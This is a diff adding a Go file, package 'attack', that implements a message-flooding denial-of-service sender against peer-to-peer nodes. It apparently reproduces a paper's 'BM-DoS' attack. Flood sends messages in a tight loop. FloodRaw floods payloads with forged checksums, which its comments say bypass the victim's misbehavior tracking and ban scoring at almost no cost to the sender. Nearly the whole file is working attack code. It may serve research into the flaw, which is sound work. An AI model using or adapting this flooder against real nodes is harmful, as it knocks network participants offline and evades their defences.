@@ -1,0 +1,123 @@
+package attack
+
+import (
+	"time"
+
+	"banscore/internal/wire"
+)
+
+// FloodResult summarizes one flooding run.
+type FloodResult struct {
+	// Sent is the number of messages written before stop or error.
+	Sent uint64
+
+	// Elapsed wall-clock time of the run.
+	Elapsed time.Duration
+
+	// Err is the terminating error, nil when the run completed its
+	// duration/count budget. A write error usually means the victim
+	// banned and dropped the connection.
+	Err error
+}
+
+// Rate returns the achieved send rate in messages per second.
+func (r FloodResult) Rate() float64 {
+	if r.Elapsed <= 0 {
+		return 0
+	}
+	return float64(r.Sent) / r.Elapsed.Seconds()
+}
+
+// FloodOptions parameterize a flood.
+type FloodOptions struct {
+	// Count of messages to send; 0 means unbounded (use Duration).
+	Count uint64
+
+	// Duration budget; 0 means unbounded (use Count).
+	Duration time.Duration
+
+	// Delay between consecutive messages; 0 floods as fast as possible
+	// (the paper's "no interval/delay" configuration).
+	Delay time.Duration
+
+	// Stop, when non-nil, aborts the flood when closed.
+	Stop <-chan struct{}
+}
+
+// Flood repeatedly sends messages produced by next over the session. It
+// models the paper's BM-DoS sender: a tight loop with an optional
+// inter-message delay.
+func Flood(s *Session, next func() wire.Message, opts FloodOptions) FloodResult {
+	start := time.Now()
+	var res FloodResult
+	deadline := time.Time{}
+	if opts.Duration > 0 {
+		deadline = start.Add(opts.Duration)
+	}
+	for {
+		if opts.Count > 0 && res.Sent >= opts.Count {
+			break
+		}
+		if !deadline.IsZero() && time.Now().After(deadline) {
+			break
+		}
+		if opts.Stop != nil {
+			select {
+			case <-opts.Stop:
+				res.Elapsed = time.Since(start)
+				return res
+			default:
+			}
+		}
+		if err := s.Send(next()); err != nil {
+			res.Err = err
+			break
+		}
+		res.Sent++
+		if opts.Delay > 0 {
+			time.Sleep(opts.Delay)
+		}
+	}
+	res.Elapsed = time.Since(start)
+	return res
+}
+
+// FloodRaw is Flood for pre-encoded payloads with corrupt checksums — the
+// bogus-BLOCK flood that bypasses misbehavior tracking entirely. The forged
+// checksum is computed once: the attacker's per-message cost is framing
+// only, which is what makes the attack so cheap on the sender side.
+func FloodRaw(s *Session, command string, payload []byte, opts FloodOptions) FloodResult {
+	checksum := bogusChecksumFor(payload)
+	start := time.Now()
+	var res FloodResult
+	deadline := time.Time{}
+	if opts.Duration > 0 {
+		deadline = start.Add(opts.Duration)
+	}
+	for {
+		if opts.Count > 0 && res.Sent >= opts.Count {
+			break
+		}
+		if !deadline.IsZero() && time.Now().After(deadline) {
+			break
+		}
+		if opts.Stop != nil {
+			select {
+			case <-opts.Stop:
+				res.Elapsed = time.Since(start)
+				return res
+			default:
+			}
+		}
+		if err := s.sendRawChecksum(command, payload, checksum); err != nil {
+			res.Err = err
+			break
+		}
+		res.Sent++
+		if opts.Delay > 0 {
+			time.Sleep(opts.Delay)
+		}
+	}
+	res.Elapsed = time.Since(start)
+	return res
+}
